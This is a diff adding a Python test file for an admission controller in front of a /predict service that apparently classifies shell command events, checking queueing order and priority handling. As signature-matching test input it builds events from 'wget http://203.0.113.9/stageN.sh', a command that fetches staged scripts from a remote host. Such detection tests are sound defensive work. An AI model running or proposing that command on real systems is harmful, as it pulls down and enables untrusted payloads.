@@ -0,0 +1,58 @@
+# test_admission.py — Streams share the admission slots, behind /predict
+
+import json
+import asyncio
+
+from admission import AdmissionController
+from conftest import event
+
+def test_background_waits_behind_queued_requests():
+    async def run():
+        ctl = AdmissionController(max_in_flight=1, max_queue=4, deadline=5.0)
+        await ctl.acquire(False)
+        order = []
+
+        async def background():
+            await ctl.acquire_background()
+            order.append("background")
+
+        async def routine():
+            await ctl.acquire(False)
+            order.append("routine")
+
+        tasks = [asyncio.create_task(background())]
+        await asyncio.sleep(0)
+        tasks.append(asyncio.create_task(routine()))  # queued after the background one
+        await asyncio.sleep(0)
+        ctl.release()
+        await asyncio.sleep(0.01)
+        assert order == ["routine"]
+        ctl.release()
+        await asyncio.gather(*tasks)
+        assert order == ["routine", "background"]
+        ctl.release()
+        assert ctl.stats()["in_flight"] == 0
+
+    asyncio.run(run())
+
+def test_stream_chunks_are_admitted_and_priority_predicts_get_through(service, serve, monkeypatch):
+    controller = AdmissionController(max_in_flight=1, max_queue=8, deadline=30.0)
+    monkeypatch.setattr(service, "admission", controller)
+    monkeypatch.setattr(service, "STREAM_BATCH_SIZE", 50)
+    backfill = "\n".join(json.dumps(event(f"ls -la /srv/backfill/{i}")) for i in range(500))
+    urgent = [event(f"wget http://203.0.113.9/stage{i}.sh") for i in range(5)]  # signature matches
+
+    async def run():
+        async with serve() as client:
+            stream = asyncio.create_task(client.post("/predict/stream", content=backfill))
+            await asyncio.sleep(0.05)
+            predicts = await asyncio.gather(*(client.post("/predict", json=e) for e in urgent))
+            return await stream, predicts
+
+    streamed, predicts = asyncio.run(run())
+    assert streamed.status_code == 200 and len(streamed.text.splitlines()) == 500
+    assert [r.status_code for r in predicts] == [200] * len(urgent)
+    stats = controller.stats()
+    assert stats["admitted_background"] == 10  # one slot per 50-event chunk
+    assert stats["admitted_priority"] == len(urgent)
+    assert stats["in_flight"] == 0